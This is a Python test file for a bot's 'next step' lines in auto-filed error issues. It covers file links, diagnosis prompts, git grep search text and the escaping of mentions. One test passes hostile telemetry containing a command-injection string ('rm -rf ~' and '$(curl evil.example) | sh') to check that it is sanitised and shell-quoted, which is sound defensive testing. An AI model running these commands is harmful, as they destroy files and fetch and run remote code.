"""Every issue body ends with a next step that fits what is known of the problem."""

from __future__ import annotations

from datetime import UTC, datetime

from rounds_bot.code.locate import CodeContext, LinkedFrame
from rounds_bot.diagnosis.model import Diagnosis
from rounds_bot.models import ErrorEvent
from rounds_bot.render.next_step import next_step, search_text

SITE = LinkedFrame(
    function="quote",
    printed="/app/checkout/pricing.py:88",
    repo_path="checkout/pricing.py",
    line=88,
    url="https://github.com/acme/shop/blob/abc/checkout/pricing.py#L88",
    crash_site=True,
)
CRASH = CodeContext(frames=[SITE], blamed=SITE)
UNMAPPED = CodeContext(
    frames=[LinkedFrame(function="Stack", printed="<generated>", crash_site=True), SITE.model_copy(update={
        "repo_path": None, "url": None, "crash_site": False
    })]
)  # fmt: skip


def diagnosis(**fields: object) -> Diagnosis:
    answer: dict[str, object] = {
        "classification": "server_bug",
        "root_cause": "r",
        "suggested_fix": "f",
        "confidence": "high",
        **fields,
    }
    return Diagnosis.model_validate(answer)


def test_diagnosis_off_names_the_crash_sites_file_and_how_to_turn_diagnosis_on():
    line = next_step(None, CRASH, diagnosis_on=False)
    assert line.startswith(
        "**Next step:** open [`checkout/pricing.py:88`](https://github.com/acme/shop/blob/"
    )
    assert "`ANTHROPIC_API_KEY`" in line and "`/rounds rediagnose`" in line
    alone = next_step(None, CodeContext(), diagnosis_on=False)
    assert alone.startswith("**Next step:** Diagnosis is off here: set `ANTHROPIC_API_KEY`")


def test_not_yet_diagnosed_offers_the_file_or_a_rediagnosis():
    assert "open [`checkout/pricing.py:88`]" in next_step(None, CRASH)
    assert next_step(None, CodeContext()).startswith("**Next step:** reply `/rounds rediagnose`")


def test_an_unsure_diagnosis_asks_for_the_evidence_it_lacks_escaped():
    low = diagnosis(confidence="low", missing_observability=["the cart id on the span", "@team's #12 logs"])
    line = next_step(low, CRASH)
    assert "low confidence" in line and "the cart id on the span" in line
    assert "@\u200bteam" in line and "#\u200b12" in line  # the model's words cannot ping or reference
    abstained = diagnosis(classification="unknown", unknown_reason="no trace", suggested_fix="")
    line = next_step(abstained, CRASH)
    assert "abstains and names no missing evidence; open [`checkout/pricing.py:88`]" in line


def test_a_confident_diagnosis_points_at_its_suggested_fix():
    for confidence in ("high", "medium"):
        assert "review the suggested fix" in next_step(diagnosis(confidence=confidence), CodeContext())
        assert "`/rounds fix`" in next_step(diagnosis(confidence=confidence), CodeContext())


def test_without_a_mapped_file_the_crash_site_is_named_as_the_runtime_printed_it():
    line = next_step(None, UNMAPPED, diagnosis_on=False)
    assert line.startswith("**Next step:** open `/app/checkout/pricing.py:88` (`quote`), where it crashed;")


def event(kind: str, message: str = "", **attributes: object) -> ErrorEvent:
    moment = datetime(2026, 11, 1, tzinfo=UTC)
    return ErrorEvent(event_id="e", timestamp=moment, kind=kind, message=message, attributes=attributes)


def test_without_a_file_the_command_that_finds_the_code_is_given():
    server = event("span_error", "GET", **{"http.route": "/api/recommendations/:productId"})
    assert search_text(server, "") == "/api/recommendations"
    client = event(
        "span_error", "POST", **{"url.full": "https://pay.example/v1/charges/ch_123456789012345678"}
    )
    assert search_text(client, "") == "/v1/charges"
    log = event("log", "label request for shipment SHP-1 failed after 2 attempts")
    assert search_text(log, "label request for shipment <*> failed after <*> attempts") == (
        "label request for shipment"
    )
    refused = event("exception", "connect ECONNREFUSED 10.0.0.1:6379", **{"http.route": "/api/session"})
    assert (
        search_text(refused, "connect ECONNREFUSED <ip>:6379") == "/api/session"
    )  # the handler it failed in
    assert search_text(event("exception", "connect ECONNREFUSED"), "connect ECONNREFUSED") is None
    line = next_step(None, CodeContext(), diagnosis_on=False, search=search_text(server, ""))
    assert line.startswith("**Next step:** run `git grep -n -F /api/recommendations` in the repository")


def test_a_searched_text_from_telemetry_cannot_break_out_of_the_command():
    hostile = event("log", "x")
    text = search_text(hostile, "drop `rm -rf ~`; $(curl evil.example) | sh 'quoted' words here <*>")
    assert text is not None and not set(text) & set("`$;|'~()<>")
    line = next_step(None, CodeContext(), search="it's a trap; rm -rf")
    assert "`git grep -n -F 'it'\"'\"'s a trap; rm -rf'`" in line  # shell-quoted, inside one code span


def test_an_effect_of_a_cascade_starts_at_its_cause():
    line = next_step(None, CRASH, diagnosis_on=False, cause="#12")
    assert line.startswith("**Next step:** start at #12: the same traces failed there first")
